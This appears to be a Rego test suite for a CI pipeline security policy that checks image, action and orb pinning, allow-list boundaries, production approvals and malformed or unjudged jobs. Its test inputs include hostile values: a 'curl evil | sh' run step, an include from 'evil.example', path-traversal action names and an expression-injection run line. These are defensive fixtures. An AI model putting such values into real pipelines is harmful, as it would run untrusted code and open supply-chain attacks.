package ztci.pipeline_test

import data.ztci.main

sha := "b4ffde65f46336ab88eb53be808477a3936bae11"

img := "cimg/go@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"

config := {"pipeline": {
	"allowed_images": ["cimg/"],
	"allowed_actions": ["actions/"],
	"allowed_orbs": ["circleci/"],
}}

good := {
	"action": "pipeline.run",
	"job": {"id": "x", "ref": "refs/heads/main", "protected": true},
	"pipeline": {
		"platform": "circleci",
		"path": ".circleci/config.yml",
		"uses": ["circleci/node@5.1.0"],
		"jobs": [
			{"name": "build", "type": "", "environment": "", "privileged": false, "images": [img], "steps": [{"name": "checkout", "uses": concat("@", ["actions/checkout", sha]), "image": "", "privileged": false}]},
			{"name": "hold", "type": "approval", "environment": "", "privileged": false, "requires": ["build"]},
			{"name": "deploy", "type": "", "environment": "production", "privileged": false, "requires": ["hold"], "branches": ["main"], "images": [img]},
		],
	},
}

rules(doc) := {v.rule | some v in main.violations with input as doc with data.ztci.config as config}

patched(ops) := rules(json.patch(good, ops))

test_good_pipeline_allowed if {
	rules(good) == set()
}

test_prod_without_branch_filter if {
	patched([{"op": "remove", "path": "/pipeline/jobs/2/branches"}]) == {"pipeline.prod_unfiltered"}
}

test_prod_from_unprotected_branch if {
	patched([{"op": "replace", "path": "/pipeline/jobs/2/branches", "value": ["main", "feature/*"]}]) == {"pipeline.prod_unprotected_branch"}
}

test_prod_without_approval if {
	patched([{"op": "replace", "path": "/pipeline/jobs/2/requires", "value": ["build"]}]) == {"pipeline.approval_missing"}
}

test_approval_is_transitive if {
	# deploy -> smoke -> hold: still approved
	doc := json.patch(good, [
		{"op": "replace", "path": "/pipeline/jobs/2/requires", "value": ["smoke"]},
		{"op": "add", "path": "/pipeline/jobs/-", "value": {"name": "smoke", "type": "", "environment": "", "privileged": false, "requires": ["hold"]}},
	])
	rules(doc) == set()
}

test_named_approval_required if {
	cfg := json.patch(config, [{"op": "add", "path": "/pipeline/approval_jobs", "value": ["security-signoff"]}])
	{v.rule | some v in main.violations with input as good with data.ztci.config as cfg} == {"pipeline.approval_missing"}
}

test_unpinned_image if {
	patched([{"op": "replace", "path": "/pipeline/jobs/0/images/0", "value": "cimg/go:1.26"}]) == {"pipeline.image_not_pinned"}
}

test_image_not_allowed if {
	patched([{"op": "replace", "path": "/pipeline/jobs/0/images/0", "value": "evil/go@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"}]) == {"pipeline.image_not_allowed"}
}

test_action_pinned_to_tag if {
	patched([{"op": "replace", "path": "/pipeline/jobs/0/steps/0/uses", "value": "actions/checkout@v4"}]) == {"pipeline.action_not_pinned"}
}

test_action_not_allowed if {
	patched([{"op": "replace", "path": "/pipeline/jobs/0/steps/0/uses", "value": concat("@", ["evil/checkout", sha])}]) == {"pipeline.action_not_allowed"}
}

test_local_action_allowed if {
	patched([{"op": "replace", "path": "/pipeline/jobs/0/steps/0/uses", "value": "./.github/actions/build"}]) == set()
}

test_floating_orb if {
	patched([{"op": "replace", "path": "/pipeline/uses/0", "value": "circleci/node@volatile"}]) == {"pipeline.orb_not_pinned"}
}

test_orb_not_allowed if {
	patched([{"op": "replace", "path": "/pipeline/uses/0", "value": "evil/node@1.0.0"}]) == {"pipeline.orb_not_allowed"}
}

test_privileged_job_and_step if {
	patched([
		{"op": "replace", "path": "/pipeline/jobs/0/privileged", "value": true},
		{"op": "replace", "path": "/pipeline/jobs/0/steps/0/privileged", "value": true},
	]) == {"pipeline.privileged"}
	count([v | some v in main.violations with input as json.patch(good, [
		{"op": "replace", "path": "/pipeline/jobs/0/privileged", "value": true},
		{"op": "replace", "path": "/pipeline/jobs/0/steps/0/privileged", "value": true},
	])
		with data.ztci.config as config]) == 2
}

test_missing_pipeline if {
	rules(json.remove(good, ["pipeline"])) == {"pipeline.missing"}
}

test_malformed_pipeline_denied if {
	every doc in [
		json.patch(good, [{"op": "replace", "path": "/pipeline", "value": "x"}]),
		json.patch(good, [{"op": "replace", "path": "/pipeline", "value": []}]),
		json.patch(good, [{"op": "replace", "path": "/pipeline", "value": null}]),
		json.patch(good, [{"op": "replace", "path": "/pipeline", "value": true}]),
		json.patch(good, [{"op": "remove", "path": "/pipeline/jobs"}]),
		json.patch(good, [{"op": "replace", "path": "/pipeline/jobs", "value": []}]),
		json.patch(good, [{"op": "replace", "path": "/pipeline/jobs", "value": {"build": good.pipeline.jobs[0]}}]),
		json.patch(good, [{"op": "replace", "path": "/pipeline/uses", "value": "circleci/node@volatile"}]),
		json.patch(good, [{"op": "add", "path": "/pipeline/jobs/-", "value": "deploy"}]),
		json.patch(good, [{"op": "add", "path": "/pipeline/jobs/-", "value": {"name": 7}}]),
		json.patch(good, [{"op": "add", "path": "/pipeline/jobs/-", "value": {"name": "hold", "type": ""}}]),
	] {
		count(rules(doc)) > 0
	}
}

# A production job whose fields have the wrong type must not escape the
# production rules.
test_wrong_typed_job_fields_denied if {
	every op in [
		{"op": "replace", "path": "/pipeline/jobs/2/environment", "value": ["production"]},
		{"op": "replace", "path": "/pipeline/jobs/2/branches", "value": "main"},
		{"op": "replace", "path": "/pipeline/jobs/2/requires", "value": "hold"},
		{"op": "replace", "path": "/pipeline/jobs/2/images", "value": "cimg/go:1.26"},
		{"op": "replace", "path": "/pipeline/jobs/0/steps", "value": {"uses": "actions/checkout@v4"}},
		{"op": "replace", "path": "/pipeline/jobs/0/steps/0", "value": "actions/checkout@v4"},
		{"op": "replace", "path": "/pipeline/jobs/0/steps/0/uses", "value": ["actions/checkout@v4"]},
		{"op": "replace", "path": "/pipeline/jobs/0/steps/0/image", "value": 1},
		{"op": "replace", "path": "/pipeline/jobs/0/privileged", "value": "false"},
		{"op": "replace", "path": "/pipeline/jobs/0/steps/0/privileged", "value": 1},
	] {
		count(patched([op])) > 0
	}
}

test_environment_case_insensitive if {
	patched([
		{"op": "replace", "path": "/pipeline/jobs/2/environment", "value": "Production"},
		{"op": "remove", "path": "/pipeline/jobs/2/branches"},
	]) == {"pipeline.prod_unfiltered"}
}

test_duplicate_approval_name_does_not_approve if {
	# a second job named "hold" that is not an approval makes "hold" ambiguous
	doc := json.patch(good, [{"op": "add", "path": "/pipeline/jobs/-", "value": {"name": "hold", "type": "", "environment": "", "privileged": false}}])
	rules(doc) == {"pipeline.malformed", "pipeline.approval_missing"}
}

step(uses) := {"name": "s", "uses": uses, "image": "", "privileged": false}

# A step that uses docker://<image> runs an image: pinned and allow-listed
# like one (it used to be neither an image nor an action, and so unjudged).
test_docker_uses_judged_as_image if {
	patched([{"op": "add", "path": "/pipeline/jobs/0/steps/-", "value": step("docker://evil/img:latest")}]) == {"pipeline.image_not_pinned", "pipeline.image_not_allowed"}
	patched([{"op": "add", "path": "/pipeline/jobs/0/steps/-", "value": step(concat("", ["docker://evil/img@sha256:", substring(img, count(img) - 64, 64)]))}]) == {"pipeline.image_not_allowed"}
	patched([{"op": "add", "path": "/pipeline/jobs/0/steps/-", "value": step(concat("", ["docker://", img]))}]) == set()
}

# ".." leaves the repository (a local action) or the allow-listed prefix.
test_dot_segments_in_actions if {
	"pipeline.action_not_allowed" in patched([{"op": "add", "path": "/pipeline/jobs/0/steps/-", "value": step("./../../evil")}])
	"pipeline.action_not_allowed" in patched([{"op": "add", "path": "/pipeline/jobs/0/steps/-", "value": step("./a/../../evil")}])
	patched([{"op": "add", "path": "/pipeline/jobs/0/steps/-", "value": step(concat("@", ["actions/checkout/../../evil/x", sha]))}]) == {"pipeline.action_not_allowed"}
	patched([{"op": "add", "path": "/pipeline/jobs/0/steps/-", "value": step("./.github/actions/build")}]) == set()
}

# Surrounding whitespace does not make another environment.
test_environment_whitespace_is_production if {
	every env in ["production ", " Production", "production\t"] {
		patched([
			{"op": "replace", "path": "/pipeline/jobs/2/environment", "value": env},
			{"op": "remove", "path": "/pipeline/jobs/2/branches"},
		]) == {"pipeline.prod_unfiltered"}
	}
}

# Allow-listed action, orb and image prefixes cover what continues them at
# a boundary ("/", ":", "@"), not a name they begin.
test_allow_list_boundaries if {
	narrow_rules(good) == set()
	narrow_rules(json.patch(good, [{"op": "replace", "path": "/pipeline/jobs/0/steps/0/uses", "value": concat("@", ["actions/checkout-evil", sha])}])) == {"pipeline.action_not_allowed"}
	narrow_rules(json.patch(good, [{"op": "replace", "path": "/pipeline/uses", "value": ["circleci/nodejs-evil@1.0.0"]}])) == {"pipeline.orb_not_allowed"}
	evil_img := "cimg/golang-evil@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	narrow_rules(json.patch(good, [{"op": "replace", "path": "/pipeline/jobs/0/images/0", "value": evil_img}])) == {"pipeline.image_not_allowed"}
}

narrow_config := {"pipeline": {"allowed_images": ["cimg/go"], "allowed_actions": ["actions/checkout"], "allowed_orbs": ["circleci/node"]}}

narrow_rules(doc) := {v.rule | some v in main.violations with input as doc with data.ztci.config as narrow_config}

# null in the configuration reads as unset (policy/doc.go): the default
# production environments, not none (which would turn the production
# rules off), and the default approval jobs, not an evaluation error.
test_null_config_reads_as_default if {
	cfg := json.patch(config, [
		{"op": "add", "path": "/pipeline/production_environments", "value": null},
		{"op": "add", "path": "/pipeline/protected_branches", "value": null},
		{"op": "add", "path": "/pipeline/approval_jobs", "value": null},
	])
	unapproved := json.patch(good, [{"op": "remove", "path": "/pipeline/jobs/2/branches"}, {"op": "replace", "path": "/pipeline/jobs/2/requires", "value": ["build"]}])
	{v.rule | some v in main.violations with input as unapproved with data.ztci.config as cfg} == {"pipeline.prod_unfiltered", "pipeline.approval_missing"}
	{v.rule | some v in main.violations with input as good with data.ztci.config as cfg} == set()
}

# A member the rules do not read is one they cannot judge, so it is
# denied, not ignored: a job-level reusable workflow call ("uses"), a
# container or services image, a run script, or a judged member spelled
# in another case beside the one the rules read ("Environment":
# "production" over "environment": "", "Privileged": true). The Input
# schema (policy.Pipeline) has none of them.
test_unknown_members_denied if {
	every op in [
		{"op": "add", "path": "/pipeline/jobs/0/uses", "value": concat("@", ["evil/repo/.github/workflows/w.yml", sha])},
		{"op": "add", "path": "/pipeline/jobs/0/container", "value": "evil/img:latest"},
		{"op": "add", "path": "/pipeline/jobs/0/services", "value": {"db": {"image": "evil/db:latest"}}},
		{"op": "add", "path": "/pipeline/jobs/0/secrets", "value": "inherit"},
		{"op": "add", "path": "/pipeline/jobs/2/Environment", "value": "production"},
		{"op": "add", "path": "/pipeline/jobs/0/Privileged", "value": true},
		{"op": "add", "path": "/pipeline/jobs/0/steps/0/run", "value": "curl evil | sh"},
		{"op": "add", "path": "/pipeline/jobs/0/steps/0/Uses", "value": "evil/x@main"},
		{"op": "add", "path": "/pipeline/Uses", "value": ["evil/orb@volatile"]},
		{"op": "add", "path": "/pipeline/include", "value": ["https://evil.example/ci.yml"]},
	] {
		"pipeline.malformed" in patched([op])
	}
	patched([{"op": "add", "path": "/pipeline/raw", "value": {}}]) == set()
}

# raw, the platform's own document, is not judged and may say what the
# normalized jobs do not: a pipeline carrying one is denied under its own
# rule id.
test_raw_denied if {
	every raw in [
		{"on": "push"},
		{"jobs": {"deploy": {"environment": "production", "steps": [{"uses": "evil/x@main"}, {"run": "echo ${{ github.event.pull_request.title }}"}]}}},
		{"permissions": "write-all"},
		"on: push",
		[],
	] {
		patched([{"op": "add", "path": "/pipeline/raw", "value": raw}]) == {"pipeline.raw_unjudged"}
	}
}

# An environment named by an expression or a variable ("${{ inputs.env }}",
# "$DEPLOY_ENV", "<< pipeline.parameters.env >>") is chosen when the job
# runs and may be production: it is judged as production, in any
# platform's syntax (Harness "<+...>", Concourse "((...))", GoCD "#{...}",
# TeamCity "%...%"): any name that is not plain ASCII. A platform that
# folds case or accents as a collation does reads "prödúction" as
# "production".
test_templated_environment_is_production if {
	every env in ["${{ inputs.environment }}", "$DEPLOY_ENV", "${DEPLOY_ENV}", "<< pipeline.parameters.env >>", "{{ env }}", "$(env)", "<+pipeline.variables.env>", "((env))", "#{env}", "%env.name%", "$[variables.env]", "@env", "env\nname", "pr\u00f6d\u00facti\u00f3n", "PRODUCT\u0130ON", "Vorf\u00fchrung"] {
		patched([
			{"op": "replace", "path": "/pipeline/jobs/2/environment", "value": env},
			{"op": "remove", "path": "/pipeline/jobs/2/branches"},
		]) == {"pipeline.prod_unfiltered"}
	}
	every env in ["staging", "review/feature-1.2", "eu:staging_2", " staging\t"] {
		patched([
			{"op": "replace", "path": "/pipeline/jobs/2/environment", "value": env},
			{"op": "remove", "path": "/pipeline/jobs/2/branches"},
		]) == set()
	}
}

# A reusable workflow ("owner/repo/.github/workflows/x.yml@ref", or
# "./.github/workflows/x.yml" in the repository) is a pipeline of its
# own: its jobs, environments and images are not in the normalized jobs,
# so a step that calls one is denied, local or remote, pinned and
# allow-listed or not (a local call read as a local action ran a
# production deploy no rule had seen).
test_reusable_workflow_step_denied if {
	every uses in [
		"./.github/workflows/deploy.yml",
		"./.GitHub/Workflows/deploy.yaml",
		"./.github//workflows/deploy.yml",
		concat("@", ["actions/reusable/.github/workflows/deploy.yml", sha]),
		concat("@", ["actions/reusable/.github/workflows", sha]),
	] {
		"pipeline.workflow_unjudged" in patched([{"op": "add", "path": "/pipeline/jobs/0/steps/-", "value": step(uses)}])
	}
	patched([{"op": "add", "path": "/pipeline/jobs/0/steps/-", "value": step(concat("@", ["actions/workflows-helper", sha]))}]) == set()
}

# A commit pin is the whole ref after the only "@": act (Gitea and
# Forgejo Actions) reads "actions/checkout@main@<sha>" as the branch
# "main@<sha>", which moves; an orb's version likewise.
test_pin_after_the_only_at if {
	patched([{"op": "replace", "path": "/pipeline/jobs/0/steps/0/uses", "value": concat("@", ["actions/checkout", "main", sha])}]) == {"pipeline.action_not_pinned"}
	patched([{"op": "replace", "path": "/pipeline/uses/0", "value": "circleci/node@volatile@5.1.0"}]) == {"pipeline.orb_not_pinned"}
}

# A "." or ".." segment climbs out of an allow-listed prefix for orbs and
# images as for actions: "circleci/../evil/node" is not under "circleci/".
test_dot_segments_in_orbs_and_images if {
	patched([{"op": "replace", "path": "/pipeline/uses/0", "value": "circleci/../evil/node@5.1.0"}]) == {"pipeline.orb_not_allowed"}
	patched([{"op": "replace", "path": "/pipeline/uses/0", "value": "circleci/./node@5.1.0"}]) == {"pipeline.orb_not_allowed"}
	evil := concat("", ["cimg/../evil/go@sha256:", substring(img, count(img) - 64, 64)])
	patched([{"op": "replace", "path": "/pipeline/jobs/0/images/0", "value": evil}]) == {"pipeline.image_not_allowed"}
	patched([{"op": "add", "path": "/pipeline/jobs/0/steps/-", "value": step(concat("", ["docker://", evil]))}]) == {"pipeline.image_not_allowed"}
}

# Outside CircleCI, whose orb registry never publishes a version twice, a
# pipeline-level unit's "@1.2.3" is a git tag its project can move (a
# GitLab CI/CD component): only a commit SHA pins it.
test_units_pinned_by_commit_outside_circleci if {
	gitlab := [{"op": "replace", "path": "/pipeline/platform", "value": "gitlab-ci"}]
	patched(array.concat(gitlab, [{"op": "replace", "path": "/pipeline/uses/0", "value": "circleci/components/deploy@1.2.3"}])) == {"pipeline.orb_not_pinned"}
	patched(array.concat(gitlab, [{"op": "replace", "path": "/pipeline/uses/0", "value": concat("@", ["circleci/components/deploy", sha])}])) == set()

	# Only the exact spelling relaxes the rule: " CircleCI " is not it.
	every p in [" CircleCI ", "CircleCI", "circleci "] {
		patched([{"op": "replace", "path": "/pipeline/platform", "value": p}]) == {"pipeline.orb_not_pinned"}
	}
	patched([{"op": "replace", "path": "/pipeline/platform", "value": 7}]) == {"pipeline.orb_not_pinned"}
}
